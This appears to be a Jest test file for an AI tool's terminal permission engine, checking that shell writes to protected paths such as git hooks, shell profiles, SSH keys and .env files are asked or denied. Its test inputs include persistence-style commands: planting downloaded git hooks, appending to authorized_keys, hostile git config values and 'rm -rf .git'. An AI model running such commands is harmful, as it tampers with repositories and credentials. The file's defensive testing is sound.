import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseRule, PermissionEngine } from '@toolwright/sdk/policy';
import type { PermissionDecision, PermissionMode, PermissionSubject } from '@toolwright/sdk/policy';
import { BashSafety } from '../src/bash_safety/bash-safety.js';
import { TerminalAction } from '../src/terminal/declarations.js';
import { terminalPermissions } from '../src/terminal/terminal-permissions.js';

/** The guard copy of the protected directories (the files are guarded in packages/sdk/test/policy/protected-paths.test.ts). */
const PROTECTED_DIRECTORIES = ['.git', '.vscode', '.idea', '.ssh', '.aws', '.gnupg', '.kube', '.docker', '.toolwright', '.husky', '.github/workflows'];
const PROTECTED_FILES = [
  '.gitconfig', '.gitmodules', '.bashrc', '.bash_profile', '.bash_login', '.bash_logout', '.zshrc', '.zprofile', '.zshenv', '.profile', '.inputrc',
  '.ssh/config', '.ssh/authorized_keys', '.netrc', '.npmrc', '.pypirc',
  '.env', '.envrc', '.env.local', '.env.development', '.env.development.local', '.env.test', '.env.test.local',
  '.env.staging', '.env.production', '.env.production.local',
];

let root: string;
let ws: string;
let terminal: PermissionSubject<TerminalAction>;

beforeAll(async () => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'tw-terminal-protected-')));
  ws = join(root, 'ws');
  mkdirSync(join(ws, 'src'), { recursive: true });
  mkdirSync(join(ws, '.git'));
  writeFileSync(join(ws, '.git', 'config'), '');
  writeFileSync(join(ws, 'package.json'), '{}');
  writeFileSync(join(ws, 'a'), '');
  mkdirSync(join(root, 'outside'));
  symlinkSync('../.git/config', join(ws, 'src', 'cfg'));
  symlinkSync('..', join(ws, 'src', 'up'));
  symlinkSync('../.git/hooks/pre-commit', join(ws, 'src', 'hook'));
  symlinkSync(join(root, 'outside'), join(ws, 'src', 'out'));
  const permissions = terminalPermissions(await BashSafety.load(), () => ws);
  terminal = {
    name: 'terminal',
    isReadOnly: (a) => permissions.isReadOnly!(a),
    checkPermissions: (a, ctx) => permissions.checkPermissions!(a, ctx),
    matchRule: (content, a, behavior) => permissions.matchRule!(content, a, behavior),
    coveredByAllowRules: (contents, a) => permissions.coveredByAllowRules!(contents, a),
    suggestRules: (a) => permissions.suggestRules!(a),
  };
});

afterAll(() => rmSync(root, { recursive: true, force: true }));

interface Setup {
  mode?: PermissionMode;
  allow?: string[];
  ask?: string[];
  confineWrites?: boolean;
  protectedPaths?: false | { files: string[]; directories: string[] };
  workingDirectories?: string[];
}

function decide(command: string, setup: Setup = {}): PermissionDecision {
  const rules = [...(setup.allow ?? []).map((r) => parseRule(`terminal(${r})`, 'allow', 'code')), ...(setup.ask ?? []).map((r) => parseRule(`terminal(${r})`, 'ask', 'code'))];
  const engine = new PermissionEngine({
    mode: setup.mode ?? 'bypass',
    rules,
    workingDirectories: setup.workingDirectories ?? [ws],
    confineWrites: setup.confineWrites,
    protectedPaths: setup.protectedPaths,
  });
  return engine.check(terminal, Object.assign(new TerminalAction(), { command })) as PermissionDecision;
}

describe('terminal: writes to protected paths ask in bypass', () => {
  it.each([
    ['echo x >> ~/.bashrc', '.bashrc'],
    ['cat a > .git/hooks/pre-commit', '.git'],
    ['cp a .git/hooks/post-checkout', '.git'],
    ['mv a .husky/pre-commit', '.husky'],
    ['ln -sf /tmp/x .toolwright/permissions.json', '.toolwright'],
    ['install -m 755 a .github/workflows/ci.yml', '.github/workflows'],
    ["sed -i 's/a/b/' .git/config", '.git'],
    ['echo x | tee -a ~/.ssh/authorized_keys', '.ssh/authorized_keys'],
    ['git config core.fsmonitor "touch /tmp/pwned"', '.git'],
    ['git -C sub config alias.x "!sh"', '.git'],
    ['git config --global core.pager "sh -c x"', '.gitconfig'],
    ['git config --file .gitmodules submodule.x.url evil', '.gitmodules'],
    ['dd if=a of=.env', '.env'],
    ['curl -o .git/hooks/pre-push https://example.invalid/x', '.git'],
    ['curl -sSLo.husky/pre-commit https://example.invalid/x', '.husky'],
    ['wget --output-document=.npmrc https://example.invalid/x', '.npmrc'],
    ['wget --output-doc .netrc https://example.invalid/x', '.netrc'],
    ['sort -o.git/config a', '.git'],
    ['sort --outp=.bashrc a', '.bashrc'],
    ['tar -xzf x.tgz -C .github/workflows', '.github/workflows'],
    ['unzip x.zip -d .vscode', '.vscode'],
  ])('%s asks, naming %s', (command, entry) => {
    const d = decide(command);
    expect([command, d.behavior, d.reason, d.protectedPath]).toEqual([command, 'ask', 'safety', entry]);
  });

  it.each(PROTECTED_DIRECTORIES)('touch inside %s/ asks in bypass', (entry) => {
    expect(decide(`touch ${entry}/x`)).toMatchObject({ behavior: 'ask', protectedPath: entry });
  });

  it.each(PROTECTED_FILES)('echo >> ~/%s asks in bypass', (entry) => {
    expect(decide(`echo x >> ${join(homedir(), entry)}`)).toMatchObject({ behavior: 'ask', protectedPath: entry });
  });

  it('through a symlinked file: echo x > src/cfg (-> ../.git/config) asks, naming the link target', () => {
    const d = decide('echo x > src/cfg', { allow: ['echo:*'] });
    expect([d.behavior, d.protectedPath, d.message]).toEqual(['ask', '.git', `Command modifies 'src/cfg' (through a symbolic link to '${join(ws, '.git', 'config')}'), which matches the protected entry '.git'`]);
  });

  it('through a symlinked directory and `..`: echo x > src/up/.git/config and cat a > src/up/src/up/.bashrc ask', () => {
    expect(decide('echo x > src/up/.git/config').protectedPath).toBe('.git');
    expect(decide('printf x > src/up/../ws/.git/config').protectedPath).toBe('.git');
  });

  it('through a dangling symlink: cp a src/hook asks (the copy would create .git/hooks/pre-commit)', () => {
    expect(decide('cp a src/hook')).toMatchObject({ behavior: 'ask', protectedPath: '.git' });
  });

  it('through a glob bash expands now: echo x > src/cf* writes through src/cfg (-> .git/config)', () => {
    expect(decide('echo x > src/cf*')).toMatchObject({ behavior: 'ask', protectedPath: '.git' });
    expect(decide('echo x > src/zz*').behavior).toBe('allow');
  });

  it('after a cd, and inside a wrapped shell: cd .git && echo x > config, bash -c "echo x >> .git/config"', () => {
    expect(decide('cd .git && echo x > config')).toMatchObject({ behavior: 'ask', protectedPath: '.git' });
    expect(decide('cd src && echo x > cfg')).toMatchObject({ behavior: 'ask', protectedPath: '.git' });
    expect(decide('bash -c "echo x >> .git/config"')).toMatchObject({ behavior: 'ask', protectedPath: '.git' });
  });

  it('case variants ask: echo x > .GIT/config, touch .Husky/pre-commit', () => {
    expect(decide('echo x > .GIT/config').protectedPath).toBe('.git');
    expect(decide('touch .Husky/pre-commit').protectedPath).toBe('.husky');
  });

  it('is checked before other steps bypass skips: an injection or a dangerous pattern cannot hide it', () => {
    expect(decide('echo $(date) > .git/config')).toMatchObject({ behavior: 'ask', protectedPath: '.git' });
    expect(decide('rm -rf .git')).toMatchObject({ behavior: 'ask', protectedPath: '.git' });
  });

  it('dontAsk denies it; default asks it even with a prefix rule covering the command', () => {
    expect(decide('cat a >> .git/config', { mode: 'dontAsk' }).behavior).toBe('deny');
    expect(decide('cat a >> .git/config', { mode: 'default', allow: ['cat:*'] })).toMatchObject({ behavior: 'ask', protectedPath: '.git' });
  });

  it('reads of protected paths are not writes', () => {
    expect(decide('cat .git/config', { mode: 'default' }).behavior).toBe('allow');
    expect(decide('git config --get user.name', { mode: 'default' }).behavior).toBe('allow');
  });

  it('protectedPaths: false gives the seed behaviour: bypass allows, default still asks (safety)', () => {
    expect(decide('echo x >> .git/config', { protectedPaths: false })).toMatchObject({ behavior: 'allow', reason: 'mode' });
    expect(decide('echo x >> .git/config', { mode: 'default', allow: ['echo:*'], protectedPaths: false })).toMatchObject({ behavior: 'ask', reason: 'safety' });
  });

  it('an extension protects more entries in the terminal too', () => {
    const protectedPaths = { files: ['deploy.key'], directories: ['infra/prod'] };
    expect(decide('cp a keys/deploy.key', { protectedPaths })).toMatchObject({ behavior: 'ask', protectedPath: 'deploy.key' });
    expect(decide('echo x > infra/prod/main.tf', { protectedPaths })).toMatchObject({ behavior: 'ask', protectedPath: 'infra/prod' });
    expect(decide('echo x > infra/dev/main.tf', { protectedPaths }).behavior).toBe('allow');
  });
});

describe('terminal: real paths for acceptEdits', () => {
  it('cp a src/out/b is not an edit inside the workspace (src/out -> a directory outside it); cp a src/b is', () => {
    expect(decide('cp a src/out/b', { mode: 'acceptEdits' }).behavior).toBe('ask');
    expect(decide('cp a src/b', { mode: 'acceptEdits' }).behavior).toBe('allow');
  });
});

describe('terminal: confineWrites', () => {
  const refusal = (target: string, problem: string): string =>
    `Writing '${target}' is refused: ${problem}. confineWrites allows writes only inside the working directories (${ws}), at paths known before the command runs.`;

  it.each(['default', 'acceptEdits', 'bypass', 'dontAsk'] as PermissionMode[])('in %s mode a redirect outside the working directories is denied', (mode) => {
    const d = decide(`echo x > ${root}/outside/x`, { mode, confineWrites: true, allow: ['echo:*'] });
    expect([d.behavior, d.reason, d.message]).toEqual(['deny', 'tool', refusal(`${root}/outside/x`, 'it is outside them')]);
  });

  it('a write through a link out of the working directories is denied, naming where it resolves', () => {
    const d = decide('cp a src/out/b', { confineWrites: true });
    expect(d.message).toBe(refusal('src/out/b', `it resolves to '${join(root, 'outside', 'b')}', outside them`));
    expect(decide('cp a src/up/package.json', { confineWrites: true, workingDirectories: [join(ws, 'src')] }).behavior).toBe('deny');
  });

  it('a target it cannot resolve is denied: a variable, a pattern in a directory part, arguments xargs appends', () => {
    expect(decide('echo x > $HOME/x', { confineWrites: true }).message).toBe(refusal('$HOME/x', 'it is only known when the command runs'));
    expect(decide('rm */x', { confineWrites: true }).behavior).toBe('deny');
    expect(decide('find . -name x | xargs rm', { confineWrites: true }).behavior).toBe('deny');
  });

  it('output options count as writes: curl -o and sort -o outside are denied', () => {
    expect(decide(`curl -o ${root}/outside/x https://example.invalid/`, { confineWrites: true }).behavior).toBe('deny');
    expect(decide(`sort -o/tmp/sorted a`, { confineWrites: true }).behavior).toBe('deny');
    expect(decide(`curl -o src/x https://example.invalid/`, { confineWrites: true, mode: 'default' }).behavior).toBe('ask');
  });

  it('a glob destination that matches a link out of the working directories is denied', () => {
    expect(decide('cp a src/ou*', { confineWrites: true }).message).toBe(refusal('src/ou*', `it matches a path that resolves to '${join(root, 'outside')}', outside them`));
  });

  it('cp reads its sources: only the destination must be inside', () => {
    expect(decide(`cp /etc/hosts src/hosts`, { confineWrites: true }).behavior).toBe('allow');
    expect(decide(`cp src/a /tmp/a`, { confineWrites: true }).behavior).toBe('deny');
  });

  it('an ask rule cannot open the door, and git config --global is outside', () => {
    expect(decide(`echo x > ${root}/outside/x`, { mode: 'default', confineWrites: true, ask: ['echo:*'] }).behavior).toBe('deny');
    expect(decide('git config --global user.name x', { confineWrites: true }).behavior).toBe('deny');
  });

  it('writes inside pass on to the mode; read-only commands and programs that name no target are not its business', () => {
    expect(decide('echo x > src/new.txt', { confineWrites: true }).behavior).toBe('allow');
    expect(decide('cat /etc/hosts', { mode: 'default', confineWrites: true }).behavior).toBe('allow');
    expect(decide('npm test', { mode: 'default', confineWrites: true }).behavior).toBe('ask');
  });
});
